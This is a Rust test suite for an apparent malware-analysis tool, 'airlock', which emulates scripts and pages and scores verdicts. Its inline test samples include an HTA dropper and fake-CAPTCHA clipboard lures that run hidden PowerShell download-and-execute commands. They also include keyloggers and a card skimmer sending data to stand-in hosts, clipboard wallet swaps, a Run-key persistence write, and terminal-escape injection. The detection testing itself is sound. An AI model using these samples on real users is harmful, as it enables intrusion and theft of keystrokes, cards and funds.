//! `airlock analyze`, `airlock verdict` and `airlock eval` as a user runs them. Uses the
//! installed JavaScript guest (the README's test command installs it) and the corpus copy in
//! `tests/corpus/js`.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::Value;

mod common;
use common::{airlock, code, out, schema_errors};

fn corpus() -> PathBuf {
    PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../tests/corpus/js"
    ))
}

fn sample(name: &str) -> String {
    corpus().join("samples").join(name).display().to_string()
}

fn reports(o: &Output) -> Vec<Value> {
    out(o)
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON report per line"))
        .collect()
}

/// `airlock analyze --json PATH`: the verdict, and the rules that fired.
/// Writes `text` to `dir/name`; returns the path.
fn file_in(dir: &Path, name: &str, text: &str) -> std::path::PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

fn verdict_of(path: &Path) -> (String, Vec<String>) {
    let o = airlock(&["analyze", "--json", path.to_str().unwrap()]);
    let r = &reports(&o)[0]["verdict"];
    let fired = r["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["rule"].as_str().unwrap().to_string())
        .collect();
    (r["verdict"].as_str().unwrap().to_string(), fired)
}

#[test]
fn a_dropper_is_malicious_with_reasons_and_indicators() {
    let o = airlock(&["analyze", &sample("mal-wsh-dropper-01.js")]);
    assert_eq!(code(&o), 30, "{}", out(&o));
    let text = out(&o);
    assert!(text.contains(": malicious "), "{text}");
    assert!(text.contains("[javascript, wsh,"), "{text}");
    assert!(text.contains("process.runs-written-file"), "{text}");
    assert!(
        text.contains("http://192.0.2.15/files/invoice_7731.exe"),
        "{text}"
    );
}

#[test]
fn benign_samples_exit_0_and_the_worst_verdict_sets_the_exit_code() {
    let benign = sample("ben-telemetry-01.js");
    let o = airlock(&["analyze", &benign, &sample("ben-jscript-01.js")]);
    assert_eq!(code(&o), 0, "{}", out(&o));
    let dir = tempfile::tempdir().unwrap();
    let elf = dir.path().join("tool");
    std::fs::write(&elf, b"\x7fELF\x02\x01\x01\0\0\0\0\0").unwrap();
    let o = airlock(&["analyze", &benign, elf.to_str().unwrap()]);
    assert_eq!(code(&o), 10, "not analysed beats benign: {}", out(&o));
    assert!(out(&o).contains("not analysed by this tier: a native executable"));
    let o = airlock(&[
        "analyze",
        elf.to_str().unwrap(),
        &sample("mal-web-skimmer-03.js"),
    ]);
    assert_eq!(code(&o), 30);
}

#[test]
fn a_saved_report_gives_the_same_verdict_again() {
    let dir = tempfile::tempdir().unwrap();
    for s in [
        "mal-web-skimmer-07.js",
        "mal-npm-supply-chain-05.js",
        "ben-payment-01.js",
    ] {
        let o = airlock(&["analyze", "--json", &sample(s)]);
        let r = &reports(&o)[0];
        let errors = schema_errors(r);
        assert!(errors.is_empty(), "{s}: {errors:#?}");
        let saved = dir.path().join("r.json");
        std::fs::write(&saved, r.to_string()).unwrap();
        let v = airlock(&["verdict", "--json", saved.to_str().unwrap()]);
        let got: Value = serde_json::from_str(&out(&v)).unwrap();
        assert_eq!(got["verdict"], r["verdict"], "{s}");
        assert_eq!(got["same_as_stored"], true, "{s}");
        assert_eq!(code(&v), code(&o), "{s}");
        // Every point is explained: the reasons add up to the score (below the cap).
        let sum: u64 = r["verdict"]["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .map(|x| x["points"].as_u64().unwrap())
            .sum();
        assert_eq!(sum.min(100), r["verdict"]["score"].as_u64().unwrap(), "{s}");
        assert!(
            r["verdict"]["reasons"]
                .as_array()
                .unwrap()
                .iter()
                .all(|x| !x["evidence"].as_array().unwrap().is_empty())
        );
    }
    // An obfuscated Node script is run again where it belongs, and says so.
    let o = airlock(&["analyze", "--json", &sample("mal-npm-supply-chain-05.js")]);
    let r = &reports(&o)[0];
    assert_eq!(r["analysis"]["environment"], "node");
    assert!(
        r["analysis"]["notes"][0]
            .as_str()
            .unwrap()
            .contains("stopped on `require`")
    );
    // Not a report: a clear refusal.
    let junk = dir.path().join("junk.json");
    std::fs::write(&junk, "{\"a\": 1}").unwrap();
    let v = airlock(&["verdict", junk.to_str().unwrap()]);
    assert_eq!(code(&v), 66);
    // Nor is a report that says neither how its run ended nor why it did not run.
    std::fs::write(&junk, r#"{"format": "airlock-report", "outcome": 5}"#).unwrap();
    let v = airlock(&["verdict", junk.to_str().unwrap()]);
    assert_eq!(code(&v), 66);
}

#[test]
fn pages_and_script_containers_run_their_scripts() {
    let dir = tempfile::tempdir().unwrap();
    let page = dir.path().join("landing");
    std::fs::write(
        &page,
        "<!doctype html><html><head><script src=\"https://cdn.example.com/lib.js\"></script></head>\n\
         <body><script>document.addEventListener('keydown', function (e) {\n\
         new Image().src = 'https://k.example/log?k=' + e.key; });</script></body></html>",
    )
    .unwrap();
    let o = airlock(&["analyze", "--json", page.to_str().unwrap()]);
    let r = &reports(&o)[0];
    assert_eq!(r["analysis"]["file_type"], "html");
    assert_eq!(
        r["analysis"]["linked_scripts"][0],
        "https://cdn.example.com/lib.js"
    );
    let rules: Vec<&str> = r["verdict"]["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"exfil.after-user-input"), "{rules:?}");
    let wsf = dir.path().join("job.wsf");
    std::fs::write(
        &wsf,
        "<job><script language=\"JScript\"><![CDATA[\n\
         var sh = new ActiveXObject('WScript.Shell');\n\
         sh.RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\u', 'calc.exe');\n\
         ]]></script></job>",
    )
    .unwrap();
    let o = airlock(&["analyze", "--json", wsf.to_str().unwrap()]);
    let r = &reports(&o)[0];
    assert_eq!(r["analysis"]["file_type"], "wsf");
    assert_eq!(r["analysis"]["environment"], "wsh");
    assert_eq!(r["verdict"]["verdict"], "malicious", "{}", r["verdict"]);
    assert_eq!(code(&o), 30);
}

#[test]
fn bad_inputs_are_reported_and_never_stop_the_others() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("empty.js"), b"").unwrap();
    std::fs::write(
        d.join("garbage.js"),
        (0..4096u32)
            .map(|i| (i * 7919 % 256) as u8)
            .collect::<Vec<_>>(),
    )
    .unwrap();
    let sparse = std::fs::File::create(d.join("huge.js")).unwrap();
    sparse.set_len(1 << 30).unwrap(); // 1 GB, sparse: refused from its size, never read
    drop(sparse);
    std::fs::write(d.join("loop.js"), b"for (;;) {}").unwrap();
    std::fs::write(d.join("ok.js"), b"console.log(1)").unwrap();
    std::os::unix::fs::symlink(d, d.join("loop")).unwrap(); // a symlink loop
    std::fs::create_dir(d.join("many")).unwrap();
    for i in 0..300 {
        std::fs::write(
            d.join("many").join(format!("{i}.txt")),
            format!("var x{i} = {i};"),
        )
        .unwrap();
    }
    let started = std::time::Instant::now();
    let o = airlock(&[
        "analyze",
        "--json",
        "--timeout",
        "500ms",
        d.to_str().unwrap(),
    ]);
    assert!(started.elapsed().as_secs() < 60);
    let rs = reports(&o);
    assert_eq!(rs.len(), 305, "every file once, the symlink not followed");
    let by_name = |n: &str| {
        rs.iter()
            .find(|r| r["input"]["name"].as_str().unwrap().ends_with(n))
            .unwrap_or_else(|| panic!("{n}"))
    };
    assert_eq!(by_name("empty.js")["verdict"]["verdict"], "not_analysed");
    assert_eq!(by_name("garbage.js")["verdict"]["verdict"], "not_analysed");
    let huge = by_name("huge.js")["verdict"]["not_analysed"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(huge.contains("refused without reading it"), "{huge}");
    let looped = by_name("loop.js");
    assert_eq!(looped["outcome"]["status"]["kind"], "timeout");
    assert_eq!(by_name("ok.js")["verdict"]["verdict"], "benign");
    assert_eq!(code(&o), 10);
    // An unreadable path is a report too.
    let o = airlock(&["analyze", d.join("nope.js").to_str().unwrap()]);
    assert_eq!(code(&o), 10);
    assert!(out(&o).contains("not analysed by this tier"));
}

#[test]
fn the_labelled_corpus_meets_the_detection_targets() {
    let o = airlock(&["eval", "--json", corpus().to_str().unwrap()]);
    assert_eq!(code(&o), 0);
    let f: Value = serde_json::from_str(&out(&o)).unwrap();
    assert!(f["malicious_recall_pct"].as_f64().unwrap() >= 95.0, "{f}");
    assert_eq!(f["false_positives"]["tricky"], 0, "{f}");
    assert!(f["indicator_recall_pct"].as_f64().unwrap() >= 90.0, "{f}");
    assert_eq!(f["malicious"]["files"], 32);
    assert_eq!(f["benign_tricky"]["files"], 12);
    assert!(Path::new(&sample("mal-wsh-dropper-01.js")).exists());
}

#[test]
fn the_html_page_is_self_contained_and_shows_verdicts_reasons_and_timeline() {
    let dir = tempfile::tempdir().unwrap();
    let page = dir.path().join("out.html");
    let o = airlock(&[
        "analyze",
        "--html",
        page.to_str().unwrap(),
        &sample("mal-phishing-kit-01.js"),
        &sample("ben-abtest-01.js"),
    ]);
    assert_eq!(code(&o), 30);
    let html = std::fs::read_to_string(&page).unwrap();
    assert!(html.contains("<span class=\"v malicious\">malicious</span>"));
    assert!(html.contains("<span class=\"v benign\">benign</span>"));
    assert!(html.contains("phish.password-form-other-site"));
    assert!(html.contains("<h3>Timeline</h3>"));
    // What the sample wrote into its page is shown as text, never as markup.
    assert!(html.contains("&lt;div class=\\&quot;login"));
    assert!(!html.contains("<div class="));
    assert!(!html.contains("<script"));
    assert!(html.contains("default-src 'none'"));
}

#[test]
fn stopping_on_another_hosts_name_does_not_throw_away_what_a_script_did() {
    let dir = tempfile::tempdir().unwrap();
    // The script skims in the browser, then stops on a name only WSH has: run in WSH as well
    // (where it does nothing), the browser run is what counts.
    let script = dir.path().join("skim.js");
    std::fs::write(
        &script,
        "if (typeof document !== 'undefined') { fetch('https://evil.example/c', { method: 'POST', \
         body: 'cardnumber=4111111111111111' }); location.href = 'https://evil.example/phish'; }\nWScript;\n",
    )
    .unwrap();
    let o = airlock(&["analyze", "--json", script.to_str().unwrap()]);
    let r = &reports(&o)[0];
    assert_eq!(r["analysis"]["environment"], "browser", "{r}");
    assert_ne!(r["verdict"]["verdict"], "benign", "{r}");
    assert!(
        r["analysis"]["notes"][0]
            .as_str()
            .unwrap()
            .contains("also run in the wsh environment, where it showed less"),
        "{r}"
    );
    // A page's blocks are separate scripts: one that stops on WScript does not stop the next,
    // and the page is not run as a WSH script.
    let page = dir.path().join("page.html");
    std::fs::write(
        &page,
        "<html><script>WScript</script><script>location.href=\"https://evil.example/phish\";</script></html>",
    )
    .unwrap();
    let o = airlock(&["analyze", "--json", page.to_str().unwrap()]);
    let r = &reports(&o)[0];
    assert_eq!(r["analysis"]["environment"], "browser", "{r}");
    assert_ne!(r["verdict"]["verdict"], "benign", "{r}");
}

#[test]
fn what_a_sample_controls_reaches_the_terminal_escaped() {
    // A command line and a file name carrying terminal sequences (erase the line, go up, set
    // the title) would let the sample erase the real verdict and print a fake one.
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("run\u{1b}[31m.js");
    std::fs::write(
        &script,
        "new ActiveXObject('WScript.Shell').Run('calc\\x1b[2K\\x1b[1A\\rrun.js: benign 0/100\\x1b]0;owned\\x07\\u202e');",
    )
    .unwrap();
    let o = airlock(&["analyze", script.to_str().unwrap()]);
    let text = out(&o);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202e}'),
        "{text:?}"
    );
    assert!(
        text.contains(r"calc\u{1b}[2K\u{1b}[1A\u{d}run.js: benign"),
        "{text}"
    );
    assert!(text.contains(r"run\u{1b}[31m.js: "), "{text}");
    // Each value stays on its own line: the first line is the verdict's.
    assert!(!text.lines().nth(1).unwrap_or("").starts_with("run.js"));
}

#[test]
fn a_tampered_stored_verdict_is_reported_not_a_crash() {
    let dir = tempfile::tempdir().unwrap();
    let o = airlock(&["analyze", "--json", &sample("mal-wsh-dropper-01.js")]);
    let mut r = reports(&o).remove(0);
    r["verdict"]["rules_sha256"] = Value::from("aaaaaaaaaaa\u{e9}bbbb");
    r["verdict"]["score"] = Value::from(1);
    let file = dir.path().join("r.json");
    std::fs::write(&file, r.to_string()).unwrap();
    let v = airlock(&["verdict", file.to_str().unwrap()]);
    assert_eq!(code(&v), 30, "{}", String::from_utf8_lossy(&v.stderr));
    assert!(
        out(&v).contains("differs from the stored verdict"),
        "{}",
        out(&v)
    );
}

#[test]
fn a_directory_with_a_fifo_is_walked_in_order_and_the_fifo_is_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("d");
    std::fs::create_dir(&d).unwrap();
    let fifo = d.join("a-pipe");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    std::fs::copy(sample("mal-wsh-dropper-01.js"), d.join("m1.js")).unwrap();
    std::fs::write(d.join("m2.js"), "var x = 1;").unwrap();
    std::fs::create_dir(d.join("sub")).unwrap();
    std::fs::write(d.join("sub").join("m0.js"), "var y = 2;").unwrap();
    // An HTML page that cannot be written is said, and the exit code is still the verdicts'.
    let o = airlock(&[
        "analyze",
        "--json",
        "--html",
        "/nonexistent-dir/x.html",
        d.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 30, "{}", String::from_utf8_lossy(&o.stderr));
    let rs = reports(&o);
    let names: Vec<String> = rs
        .iter()
        .map(|r| {
            let n = r["input"]["name"].as_str().unwrap();
            Path::new(n).strip_prefix(&d).unwrap().display().to_string()
        })
        .collect();
    assert_eq!(names, ["a-pipe", "m1.js", "m2.js", "sub/m0.js"]);
    assert_eq!(rs[0]["verdict"]["verdict"], "not_analysed");
    assert!(
        rs[0]["verdict"]["not_analysed"]
            .as_str()
            .unwrap()
            .contains("not a regular file"),
        "{}",
        rs[0]
    );
    assert!(String::from_utf8_lossy(&o.stderr).contains("cannot write /nonexistent-dir/x.html"));
    // Named directly, a FIFO nobody writes to is read as empty, not waited on (`timeout` turns
    // a wait into exit 124).
    let o = std::process::Command::new("timeout")
        .arg("20")
        .arg(env!("CARGO_BIN_EXE_airlock"))
        .args(["analyze", "--json"])
        .arg(&fifo)
        .env("AIRLOCK_CACHE_DIR", dir.path().join("cache"))
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert_eq!(code(&o), 10);
    assert_eq!(reports(&o)[0]["analysis"]["file_type"], "empty");
}

/// A frame from another site that nobody can see (hidden by style or attribute, or 0-2 px) is
/// how injected redirection frames load, and how conversion tags and sign-in libraries load
/// theirs: suspicious, with its own reason. The same frame visible has only the frame's reason;
/// hidden but from the page's own site, none.
#[test]
fn an_invisible_frame_from_another_site_has_its_own_reason_and_a_visible_one_does_not() {
    let dir = tempfile::tempdir().unwrap();
    let frame = |name: &str, src: &str, how: &str| {
        let path = dir.path().join(name);
        let code = format!(
            "var f = document.createElement('iframe'); {how} f.src = {src:?}; document.body.appendChild(f);"
        );
        std::fs::write(&path, code).unwrap();
        path.display().to_string()
    };
    let rules = |path: &str| verdict_of(Path::new(path));
    let elsewhere = "https://stat-counter.example/f.php";
    for (i, how) in [
        "f.style.display = 'none';",
        "f.style.visibility = 'hidden';",
        "f.setAttribute('width', '1'); f.setAttribute('height', '1');",
        "f.style.cssText = 'width:0px;height:0px;border:0';",
        "f.hidden = true;",
        "f.setAttribute('style', 'display: none !important');",
        "f.style.cssText = 'position:absolute; left:-9999px; top:-9999px';",
        "f.style.opacity = '0.01';",
    ]
    .iter()
    .enumerate()
    {
        let (verdict, fired) = rules(&frame(&format!("hidden{i}.js"), elsewhere, how));
        assert_eq!(verdict, "suspicious", "{how}: {fired:?}");
        assert!(
            fired.contains(&"browser.hidden-iframe-other-site".to_string()),
            "{how}: {fired:?}"
        );
    }
    // Hidden after it was added to the page (by attribute or style) counts too.
    let late = dir.path().join("late.js");
    std::fs::write(
        &late,
        format!("var f = document.createElement('iframe'); f.src = {elsewhere:?}; document.body.appendChild(f); f.setAttribute('style', 'display:none');"),
    )
    .unwrap();
    let hidden = |p: &Path| {
        rules(p.to_str().unwrap())
            .1
            .contains(&"browser.hidden-iframe-other-site".to_string())
    };
    assert!(hidden(&late));
    std::fs::write(
        &late,
        format!("var f = document.createElement('iframe'); f.src = {elsewhere:?}; document.body.appendChild(f); f.style.visibility = 'hidden';"),
    )
    .unwrap();
    assert!(hidden(&late));
    // Inside a hidden element, as injected frames are written.
    let nested = dir.path().join("nested.js");
    std::fs::write(
        &nested,
        format!("document.write('<div style=\"display:none\"><iframe src=\"{elsewhere}\"></iframe></div>');"),
    )
    .unwrap();
    assert!(hidden(&nested));
    // A visible embed from another site, and an invisible frame of the page's own site.
    let (verdict, fired) = rules(&frame(
        "video.js",
        "https://video.example/embed/1",
        "f.width = '560'; f.height = '315';",
    ));
    assert_eq!(
        (verdict.as_str(), fired),
        ("suspicious", vec!["browser.iframe-other-site".to_string()])
    );
    let (verdict, fired) = rules(&frame("own.js", "/keepalive", "f.style.display = 'none';"));
    assert_eq!(verdict, "benign", "{fired:?}");
}

/// An `.hta` dropper that hides its window before it runs its command (as they do) is analysed
/// in the HTML Application environment: under WSH alone, `window` was undefined, the script
/// stopped at its first line and came out benign.
#[test]
fn an_hta_that_hides_its_window_first_is_still_seen_running_its_command() {
    let dir = tempfile::tempdir().unwrap();
    let hta = dir.path().join("invoice.hta");
    std::fs::write(
        &hta,
        r#"<html><head><hta:application showintaskbar="no" windowstate="minimize"/>
<script language="JScript">
window.resizeTo(0, 0);
var sh = new ActiveXObject("WScript.Shell");
sh.Run("powershell -w hidden -c iwr http://198.51.100.7/p.ps1 | iex", 0, false);
self.close();
</script></head><body></body></html>"#,
    )
    .unwrap();
    let o = airlock(&["analyze", "--json", hta.to_str().unwrap()]);
    let r = &reports(&o)[0];
    assert_eq!(r["verdict"]["verdict"], "malicious", "{}", out(&o));
    assert_eq!(r["emulation"]["environment"], "hta");
    assert_eq!(
        r["emulation"]["indicators"]["commands"][0],
        "powershell -w hidden -c iwr http://198.51.100.7/p.ps1 | iex"
    );
}

/// The user types a whole card number, key by key: a keylogger that sends keys in batches is
/// seen sending them, and is malicious; a search box that asks another site for suggestions as
/// the user types into it is only suspicious.
#[test]
fn a_keylogger_that_sends_keys_in_batches_is_malicious_and_a_search_box_is_not() {
    let dir = tempfile::tempdir().unwrap();
    let verdict = |name: &str, code: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, code).unwrap();
        verdict_of(&path)
    };
    let (v, fired) = verdict(
        "keys.js",
        "var buf = ''; document.addEventListener('keydown', function (e) { buf += e.key;
           if (buf.length > 5) { new Image().src = 'https://k.example/l?d=' + buf; buf = ''; } });",
    );
    assert_eq!(v, "malicious", "{fired:?}");
    assert!(fired.contains(&"exfil.keylogger".to_string()), "{fired:?}");
    // Keys logged as codes, key codes or a JSON array, from body or through `input`.
    for (i, code) in [
        "var k = []; document.addEventListener('keydown', function (e) { k.push(e.code);
           if (k.length > 5) { navigator.sendBeacon('https://k.example/b', k.join(',')); k = []; } });",
        "var k = []; document.body.addEventListener('keyup', function (e) { k.push(e.keyCode);
           if (k.length > 5) { fetch('https://k.example/k?d=' + k.join('.')); k = []; } });",
        "var k = []; window.addEventListener('keypress', function (e) { k.push(e.key);
           if (k.length > 5) { fetch('https://k.example/j', { method: 'POST', body: JSON.stringify(k) }); k = []; } });",
        "var b = ''; document.addEventListener('input', function (e) { b += e.data;
           if (b.length > 5) { new Image().src = 'https://k.example/i?d=' + b; b = ''; } });",
        // Careful ones: keys typed at a person's pace, aimed at the focused field, whose value
        // grows with them.
        "var b = '', last = 0, human = true, bot = false;
         document.addEventListener('keyup', function (e) {
           if (last && e.timeStamp - last < 15) human = false; last = e.timeStamp;
           if (e.target !== document.activeElement || e.repeat !== false || e.ctrlKey !== false) return;
           b += e.key; if ((e.target.value || '').length !== b.length) bot = true;
           if (human && !bot && b.length === 16) new Image().src = 'https://k.example/l?d=' + b; });",
    ]
    .iter()
    .enumerate()
    {
        let (v, fired) = verdict(&format!("keys{i}.js"), code);
        assert_eq!(v, "malicious", "{code}: {fired:?}");
    }
    let (v, fired) = verdict(
        "search.js",
        "var q = document.createElement('input'); document.body.appendChild(q);
         q.addEventListener('input', function (e) {
           fetch('https://suggest.example/q?s=' + encodeURIComponent(q.value + e.data)); });",
    );
    assert_eq!(v, "suspicious", "{fired:?}");
    assert!(!fired.contains(&"exfil.keylogger".to_string()), "{fired:?}");
}

/// What scripts put on the clipboard: a fake CAPTCHA that copies a command and tells the user to
/// paste it into the Run dialog, and scripts that swap a copied wallet address, are malicious; a
/// documentation page's copy button for an install command is suspicious; a donation page's
/// button that copies its own address is benign.
#[test]
fn clipboard_lures_and_wallet_swaps_are_malicious_and_copy_buttons_are_not() {
    let dir = tempfile::tempdir().unwrap();
    let verdict = |name: &str, code: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, code).unwrap();
        verdict_of(&path)
    };
    let has = |fired: &[String], rule: &str| fired.iter().any(|f| f == rule);
    let (v, fired) = verdict(
        "captcha.js",
        r#"document.body.innerHTML = '<p>Press Windows Key + R, then CTRL + V, then Enter</p><button id=v>Verify</button>';
           document.getElementById('v').addEventListener('click', function () {
             var t = document.createElement('textarea');
             t.value = 'powershell -w hidden -c "iwr https://check.example/v.ps1 | iex" # reCAPTCHA ID 4211';
             document.body.appendChild(t); t.select(); document.execCommand('copy'); t.remove();
           });"#,
    );
    assert_eq!(v, "malicious", "{fired:?}");
    assert!(has(&fired, "clipboard.run-dialog-lure"), "{fired:?}");
    for (name, code) in [
        (
            "on-copy.js",
            "document.addEventListener('copy', function (e) {
               if (/^bc1/.test(getSelection().toString().trim())) {
                 e.clipboardData.setData('text/plain', 'bc1qattackerattackerattacker0000000000');
                 e.preventDefault(); } });",
        ),
        (
            "poll.js",
            "setInterval(function () { navigator.clipboard.readText().then(function (t) {
               if (/^(bc1|[13])\\w{25,}$/.test(t)) navigator.clipboard.writeText('0xdEaD00000000000000000000000000000000bEEF'); }); }, 500);",
        ),
    ] {
        let (v, fired) = verdict(name, code);
        assert_eq!(v, "malicious", "{name}: {fired:?}");
        assert!(has(&fired, "clipboard.wallet-swap"), "{name}: {fired:?}");
    }
    let (v, fired) = verdict(
        "docs.js",
        r#"document.body.innerHTML = '<pre id=c>curl -LsSf https://astral.sh/uv/install.sh | sh</pre><button id=b>Copy</button>';
           document.getElementById('b').onclick = function () {
             navigator.clipboard.writeText(document.getElementById('c').textContent); };"#,
    );
    assert_eq!(
        (v.as_str(), fired),
        ("suspicious", vec!["clipboard.command".to_string()])
    );
    // The ways to copy that clipboard libraries use, and the padding real lures add.
    let lure = "document.body.insertAdjacentHTML('beforeend', '<p>Press Win + R, then Ctrl + V, then Enter</p>');";
    for (i, copy) in [
        "navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob([c], { type: 'text/plain' }) })]);",
        "var h = function (e) { e.clipboardData.setData('text/plain', c); e.preventDefault(); };
         document.addEventListener('copy', h, { once: true }); document.execCommand('copy');",
        "if (document.queryCommandSupported('copy')) { var t = document.createElement('textarea');
           t.value = c; document.body.appendChild(t); t.select(); document.execCommand('copy'); }",
        "navigator.clipboard.writeText(' '.repeat(5000) + c + ' '.repeat(5000) + '# I am not a robot');",
    ]
    .iter()
    .enumerate()
    {
        let code = format!(
            "{lure} document.addEventListener('click', function () {{ var c = 'mshta https://check.example/v.hta'; {copy} }});"
        );
        let (v, fired) = verdict(&format!("lure{i}.js"), &code);
        assert_eq!(v, "malicious", "{copy}: {fired:?}");
    }
    // An install page that says to paste with Ctrl + V into PowerShell: no Run dialog, no lure.
    let (v, fired) = verdict(
        "install.js",
        r#"document.body.innerHTML = '<p>Open PowerShell, paste the command with Ctrl + V and press Enter:</p><pre id=c>powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"</pre><button id=b>Copy</button>';
           document.getElementById('b').onclick = function () { navigator.clipboard.writeText(document.getElementById('c').textContent); };"#,
    );
    assert_eq!(v, "suspicious", "{fired:?}");
    // A checkout widget that pastes a refund address and copies its own, shown, address.
    let (v, fired) = verdict(
        "pay.js",
        "document.body.innerHTML = '<input id=r><button id=p>Paste</button><code id=a>bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</code><button id=c>Copy</button>';
         document.getElementById('p').onclick = function () { navigator.clipboard.readText().then(function (t) { document.getElementById('r').value = t; }); };
         document.getElementById('c').onclick = function () { navigator.clipboard.writeText(document.getElementById('a').textContent); };",
    );
    assert_eq!(v, "benign", "{fired:?}");
    let (v, fired) = verdict(
        "donate.js",
        "document.body.innerHTML = '<button id=d>Copy our address</button>';
         document.getElementById('d').onclick = function () {
           navigator.clipboard.writeText('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'); };",
    );
    assert_eq!(v, "benign", "{fired:?}");
}

/// A page's own markup is in the emulated DOM: a fake-CAPTCHA page whose only code is a
/// button's `onclick` attribute, and an HTA whose command runs from `<body onload>`, are seen
/// doing what they do; a page whose scripts work on its static elements and inline handlers is
/// benign.
#[test]
fn a_pages_own_markup_and_inline_handlers_are_run() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| file_in(dir.path(), name, text);
    let clickfix = write(
        "verify.html",
        r#"<html><head><title>Verify you are human</title></head><body>
<div class="captcha"><p>To verify, press Win+R, then Ctrl+V and Enter.</p>
<button id="verify" onclick="navigator.clipboard.writeText('powershell -w hidden -c iwr https://198.51.100.9/c.ps1 | iex')">I'm not a robot</button>
</div></body></html>"#,
    );
    let (verdict, fired) = verdict_of(&clickfix);
    assert_eq!(verdict, "malicious", "{fired:?}");
    assert!(
        fired.iter().any(|r| r == "clipboard.run-dialog-lure"),
        "{fired:?}"
    );
    let hta = write(
        "update.hta",
        r#"<html><head><hta:application id="oHTA" windowstate="minimize"/>
<script language="JScript">
function go() { new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c iex (iwr http://198.51.100.7/p)", 0); window.close(); }
</script></head><body onload="go()"></body></html>"#,
    );
    let (verdict, fired) = verdict_of(&hta);
    assert_eq!(verdict, "malicious", "{fired:?}");
    assert!(fired.iter().any(|r| r == "process.command"), "{fired:?}");
    let menu = write(
        "menu.html",
        r#"<html><body onload="init()"><nav><button id="menu" onclick="toggle()">Menu</button>
<ul id="items" hidden><li><a href="/about">About</a></li></ul></nav>
<p id="year"></p>
<script>
function init() { document.getElementById('year').textContent = new Date().getFullYear(); }
function toggle() { var u = document.getElementById('items'); u.hidden = !u.hidden; }
document.getElementById('menu').setAttribute('aria-expanded', 'false');
</script></body></html>"#,
    );
    let (verdict, fired) = verdict_of(&menu);
    assert_eq!(verdict, "benign", "{fired:?}");
}

/// What the review of the page build found: deep or unclosed markup, padding and decoys do not
/// stop it; a page's own forms, links and inline handlers next to an analytics loader are not
/// what its scripts did.
#[test]
fn a_pages_markup_neither_hides_its_handlers_nor_makes_ordinary_pages_suspicious() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| file_in(dir.path(), name, text);
    let lure = r#"<p>Press Win+R, then Ctrl+V and Enter.</p><button onclick="navigator.clipboard.writeText('powershell -w hidden -c iwr https://198.51.100.9/c.ps1 | iex')">Verify</button>"#;
    for (name, page) in [
        (
            "deep.html",
            format!("<body>{}{lure}</body>", "<div>".repeat(400)),
        ),
        (
            "unclosed.html",
            format!("<body><ul>{}</ul>{lure}</body>", "<li>item".repeat(400)),
        ),
        (
            "padded.html",
            format!(
                "<!-- {} --><!-- <body> --><body>{lure}</body>",
                "x".repeat(1 << 20)
            ),
        ),
    ] {
        let (verdict, fired) = verdict_of(&write(name, &page));
        assert_eq!(verdict, "malicious", "{name}: {fired:?}");
    }
    let shop = write(
        "login.html",
        r#"<html><body onload="init()"><form action="https://auth.example.com/login" method="post" onsubmit="return check(this)">
<input name="user"><input type="password" name="password"><button type="submit">Sign in</button></form>
<a href="https://cdn.example.com/app.zip" download onclick="track('dl')">Download</a>
<script>function init(){} function check(f){return true} function track(x){}
(function(){var s=document.createElement('script');s.async=true;s.src='https://www.googletagmanager.com/gtag/js?id=G-1';document.head.appendChild(s);})();</script>
</body></html>"#,
    );
    let (verdict, fired) = verdict_of(&shop);
    assert_eq!(verdict, "benign", "{fired:?}");
}
